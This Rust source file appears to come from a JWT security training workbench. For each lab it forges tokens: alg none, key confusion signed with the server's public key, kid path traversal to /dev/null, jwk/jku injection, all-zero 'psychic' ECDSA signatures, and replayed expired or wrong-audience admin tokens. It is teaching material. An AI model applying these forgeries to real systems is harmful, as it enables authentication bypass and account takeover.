//! The attacker's move in each lab (`s` in the lab view): signs the header and payload the
//! learner wrote with what an attacker has in that lab (the server's public key, a known
//! file's content, the attacker's own key...), or hands over the leaked token. The workbench
//! itself never signs with such material; here it is the point.

use serde_json::{Map, Value};

use super::LabId;
use super::server::{self, KEY_DIR, LabServer, RSA_PUBLIC};
use crate::jose::alg::{Alg, Family};
use crate::jose::b64;

/// The server's RSA public key as it publishes it (PEM): what the key-confusion lab's
/// attacker downloads.
pub fn public_pem() -> &'static str {
    RSA_PUBLIC
}

/// What the kit made, and what it did, in a sentence.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Forged {
    /// The token.
    pub token: String,
    /// What was done to make it.
    pub note: String,
}

/// `header.payload.tag` with an HMAC over the JSON texts as given (minified), keyed with
/// `secret`, whatever it is.
pub fn hmac_token(header: &str, payload: &str, secret: &[u8]) -> Option<String> {
    let unsigned = crate::jose::sign::prepare(header, payload).ok()?;
    let alg = if unsigned.alg.family() == Family::Hmac {
        unsigned.alg
    } else {
        Alg::HS256
    };
    let tag = crate::jose::sign::hmac(alg, secret, unsigned.signing_input.as_bytes());
    Some(format!("{}.{}", unsigned.signing_input, b64::encode(&tag)))
}

fn unsecured(header: &str, payload: &str) -> String {
    format!(
        "{}.{}.",
        b64::encode(crate::jose::json::minify(header).as_bytes()),
        b64::encode(crate::jose::json::minify(payload).as_bytes())
    )
}

fn header_map(header: &str) -> Result<Map<String, Value>, String> {
    match serde_json::from_str::<Value>(header) {
        Ok(Value::Object(m)) => Ok(m),
        _ => Err("the header is not a JSON object".to_owned()),
    }
}

/// The attacker's move for lab `id` on the learner's `header` and `payload` JSON. `secret` is
/// the key the learner has in the workbench (the weak-secret lab signs with what `w` found);
/// `jku` is the URL of the attacker's JWKS served on loopback (the jku lab).
// One arm per lab, side by side: split, the labs' moves could no longer be read together.
#[allow(clippy::too_many_lines)]
pub fn forge(
    id: LabId,
    server: &LabServer,
    header: &str,
    payload: &str,
    secret: Option<&[u8]>,
    jku: Option<&str>,
    now: i64,
) -> Result<Forged, String> {
    let h = header_map(header)?;
    let alg = h.get("alg").and_then(Value::as_str).unwrap_or_default();
    if alg.eq_ignore_ascii_case("none") {
        return Ok(Forged {
            token: unsecured(header, payload),
            note: format!("alg '{alg}': no signature at all, part 3 left empty"),
        });
    }
    let hmac = |key: &[u8], what: &str| {
        hmac_token(header, payload, key)
            .map(|token| Forged {
                token,
                note: format!("signed with HMAC keyed with {what}"),
            })
            .ok_or_else(|| "the header or payload is not valid JSON".to_owned())
    };
    match id {
        LabId::KeyConfusion if alg.starts_with("HS") => {
            hmac(RSA_PUBLIC.as_bytes(), "the server's public PEM (its bytes)")
        }
        LabId::KeyConfusion => Err(format!(
            "with alg '{alg}' the attacker would need the server's RSA private key; set \"alg\": \
             \"HS256\" first"
        )),
        LabId::KidTraversal => {
            let kid = h.get("kid").and_then(Value::as_str).unwrap_or_default();
            let path = server::normalize(&format!("{KEY_DIR}{kid}"));
            match server.read_file(&path) {
                Some(_) if path == "/app/keys/current" => Err(
                    "the attacker does not know what /app/keys/current holds: point the kid at \
                     a file whose content you know, such as ../../../dev/null"
                        .to_owned(),
                ),
                Some(content) => hmac(&content, &format!("the content of {path}")),
                None => Err(format!(
                    "{path} is no file the attacker knows the content of"
                )),
            }
        }
        LabId::WeakSecret => match secret {
            Some(s) if !s.is_empty() => hmac(s, "the secret in the key field"),
            _ => Err("no secret yet: press w to search for it first".to_owned()),
        },
        LabId::EmbeddedJwk | LabId::Jku => {
            let attacker = server.attacker().ok_or("no attacker key")?;
            let mut h = h;
            h.insert("alg".to_owned(), Value::from("ES256"));
            h.insert("kid".to_owned(), Value::from(attacker.kid.clone()));
            let what = if id == LabId::EmbeddedJwk {
                h.insert("jwk".to_owned(), attacker.public_jwk());
                "the attacker's own key, its public half in the header as jwk"
            } else {
                let url = jku.ok_or("the attacker's JWKS is not served yet")?;
                h.insert("jku".to_owned(), Value::from(url));
                "the attacker's own key, published in the JWKS at jku"
            };
            let key = attacker.signing_key().ok_or("no attacker key")?;
            let token = crate::jose::sign::sign(&Value::Object(h).to_string(), payload, Some(&key))
                .map_err(|e| e.to_string())?;
            Ok(Forged {
                token,
                note: format!("signed ES256 with {what}"),
            })
        }
        LabId::Psychic => Ok(Forged {
            token: format!("{}{}", unsecured(header, payload), b64::encode(&[0u8; 64])),
            note: "the signature is 64 zero bytes: r = 0, s = 0".to_owned(),
        }),
        LabId::IgnoredExp => {
            let token = server
                .issue(
                    id,
                    &server::claims(
                        "admin",
                        "admin",
                        super::AUDIENCE,
                        now - 86_400,
                        now - 90_000,
                    ),
                )
                .ok_or("the server could not sign")?;
            Ok(Forged {
                token,
                note: "the admin token from an old log: it expired a day ago".to_owned(),
            })
        }
        LabId::IgnoredAud => {
            let token = server
                .issue(
                    id,
                    &server::claims("admin", "admin", "billing-api", now + 3600, now),
                )
                .ok_or("the server could not sign")?;
            Ok(Forged {
                token,
                note: "the admin token the issuer minted for the billing API".to_owned(),
            })
        }
        LabId::Unverified | LabId::AlgNone => Err(
            "the attacker has no key here, and needs none: edit the token and look at the \
             check"
                .to_owned(),
        ),
    }
}
